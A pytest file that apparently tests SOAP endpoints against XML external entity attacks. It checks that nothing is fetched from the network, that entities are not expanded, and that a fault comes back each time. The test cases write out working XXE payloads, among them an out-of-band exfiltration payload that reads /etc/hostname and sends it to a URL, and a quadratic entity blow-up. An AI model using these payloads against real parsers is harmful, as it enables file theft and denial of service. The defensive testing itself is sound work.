"""Entities and DTDs on every SOAP endpoint: nothing is fetched from the network, no
entity is expanded, and each gets a small, fast Sender fault that says why; the endpoint
keeps answering valid requests.

tests/wire/test_*_bad_input.py already cover a file:// entity, an internal entity and
billion laughs; here: the network (entity, external DTD, parameter entity), parameter
entities, and the quadratic blow-up, with or without a DTD.
"""
from __future__ import annotations

import socket

import pytest

from hostile_wire import ENDPOINTS, assert_sender_fault, in_body, with_doctype

NO_DTD = "DOCTYPE declarations are not allowed in SOAP messages"


def test_the_listener_sees_a_connection(listener):
    """The control: a fetch attempt would be noticed."""
    assert not listener.connected(0)
    with socket.create_connection(listener.socket.getsockname(), timeout=1):
        assert listener.connected(1)


def _network_cases(url: str) -> list[tuple[str, str, str, str]]:
    """(name, DOCTYPE, content of soap:Body, what the fault says)."""
    return [
        ("http-entity", f'<!DOCTYPE e [<!ENTITY x SYSTEM "{url}/entity">]>', "&x;", NO_DTD),
        ("http-public-entity",
         f'<!DOCTYPE e [<!ENTITY x PUBLIC "-//X//EN" "{url}/public">]>', "&x;", NO_DTD),
        ("http-external-dtd", f'<!DOCTYPE e SYSTEM "{url}/external.dtd">', "", NO_DTD),
        ("http-parameter-entity",
         f'<!DOCTYPE e [<!ENTITY % p SYSTEM "{url}/parameter"> %p;]>', "", NO_DTD),
        # The out-of-band exfiltration shape: a file sent to the attacker's URL.
        ("http-parameter-entity-in-entity",
         f'<!DOCTYPE e [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d '
         f'"<!ENTITY &#x25; send SYSTEM \'{url}/?%f;\'>"> %d; %send;]>', "",
         "PEReferences forbidden in internal subset"),
        # XInclude is not processed: the element is just an unknown body element.
        ("xinclude-http", "",
         f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/xinclude"/>',
         "{http://www.w3.org/2001/XInclude}include"),
    ]


CASE_NAMES = [c[0] for c in _network_cases("http://x")]


@pytest.mark.parametrize("path", ENDPOINTS)
@pytest.mark.parametrize("case", CASE_NAMES)
def test_nothing_is_fetched_from_the_network(wire, listener, path, case):
    _, doctype, content, message = next(c for c in _network_cases(listener.url)
                                        if c[0] == case)
    raw = with_doctype(wire.valid(path), doctype, content) if doctype \
        else in_body(wire.valid(path), content.encode())
    answer = wire.post(path, raw)
    assert not listener.connected(), "the simulator connected to the URL in the request"
    assert_sender_fault(answer, path, message)
    wire.assert_still_serving(path)


@pytest.mark.parametrize("path", ENDPOINTS)
def test_a_parameter_entity_is_refused(wire, path):
    doctype = ('<!DOCTYPE e [<!ENTITY % p "<!ENTITY who \'intruder\'>"> %p;]>')
    answer = wire.post(path, with_doctype(wire.valid(path), doctype, "&who;"))
    assert_sender_fault(answer, path, NO_DTD)
    assert b"intruder" not in answer.response.data
    wire.assert_still_serving(path)


@pytest.mark.parametrize("path", ENDPOINTS)
def test_quadratic_blowup_with_a_dtd_is_refused_small_and_fast(wire, path):
    """One 50 KB entity referenced 4,000 times would be 200 MB once expanded."""
    doctype = f'<!DOCTYPE e [<!ENTITY a "{"x" * 50_000}">]>'
    raw = with_doctype(wire.valid(path), doctype, "&a;" * 4000)
    assert len(raw) < 100_000
    answer = wire.post(path, raw)
    # libxml2 stops the expansion itself, or the DOCTYPE is refused after parsing.
    fault = assert_sender_fault(answer, path, "")
    assert "amplification" in fault.message or NO_DTD in fault.message, fault
    assert b"xxxxxxxxxx" not in answer.response.data
    wire.assert_still_serving(path)


@pytest.mark.parametrize("path", ENDPOINTS)
def test_quadratic_blowup_without_a_dtd_is_an_undefined_entity(wire, path):
    """Without a DTD accepted, a reference to the big entity is just an error."""
    answer = wire.post(path, in_body(wire.valid(path), b"&a;" * 40_000))
    assert_sender_fault(answer, path, "Entity 'a' not defined")
    wire.assert_still_serving(path)
